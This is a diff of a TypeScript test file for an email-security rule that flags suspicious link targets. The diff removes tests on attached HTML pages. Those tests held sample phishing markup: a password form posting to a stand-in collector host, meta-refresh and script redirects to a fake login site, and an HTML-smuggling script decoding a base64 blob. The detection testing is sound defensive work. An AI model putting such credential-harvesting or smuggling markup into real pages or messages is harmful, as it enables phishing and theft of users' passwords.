@@ -1,6 +1,6 @@
 import { suspiciousLinkTarget } from '../../../src/engine/rules/suspicious-link-target';
 import type { HeaderField } from '../../../src/engine/model';
-import { pdfWithLinks, text } from '../../fixtures/content/builders';
+import { pdfWithLinks } from '../../fixtures/content/builders';
 import { contentPolicy } from './policy';
 import { attachment, from, htmlLink, mail, priorFinding, reasons, runRule, textLink } from './message';
 
@@ -204,33 +204,6 @@ describe('suspicious-link-target: links inside attached PDFs', () => {
 
   test('an ordinary PDF linking to a company site is fine', () => {
     expect(runRule(suspiciousLinkTarget, mail({ attachments: [pdf(['https://www.example.org/terms', 'mailto:info@example.org'])] }), policy)).toBeUndefined();
-  });
-});
-
-describe('suspicious-link-target: attached web pages', () => {
-  const page = (html: string) => attachment('Statement.html', { contentType: 'text/html', content: text(html) });
-
-  test('a page that posts a password form to a website', () => {
-    const hit = runRule(suspiciousLinkTarget, mail({ attachments: [page('<html><body><form method="post" action="https://collect.example.net/p.php"><input type="password" name="pw"></form>')] }), policy);
-    expect(reasons(hit)).toEqual(['attached page sends what you type to collect.example.net; attached page asks for a password']);
-    expect(hit?.severity).toBe('high');
-  });
-
-  test('a page that redirects', () => {
-    const hit = runRule(suspiciousLinkTarget, mail({ attachments: [page('<html><head><meta http-equiv="refresh" content="0; url=https://login.example.net/"></head></html>')] }), policy);
-    expect(reasons(hit)).toEqual(['attached page redirects to login.example.net']);
-    const scripted = runRule(suspiciousLinkTarget, mail({ attachments: [page('<script>window.location.href = "https://login.example.net/?e=a";</script>')] }), policy);
-    expect(reasons(scripted)).toEqual(['attached page redirects to login.example.net']);
-  });
-
-  test('HTML smuggling: a large encoded blob decoded by script', () => {
-    const blob = 'QUJD'.repeat(2000);
-    const hit = runRule(suspiciousLinkTarget, mail({ attachments: [page(`<html><script>var d = atob("${blob}");</script></html>`)] }), policy);
-    expect(reasons(hit)).toEqual(['attached page assembles hidden content from encoded text (HTML smuggling)']);
-  });
-
-  test('an ordinary HTML attachment (e.g. a saved itinerary) is not reported here', () => {
-    expect(runRule(suspiciousLinkTarget, mail({ attachments: [page('<html><body><h1>Itinerary</h1><a href="https://www.example.org">site</a></body></html>')] }), policy)).toBeUndefined();
   });
 });
 
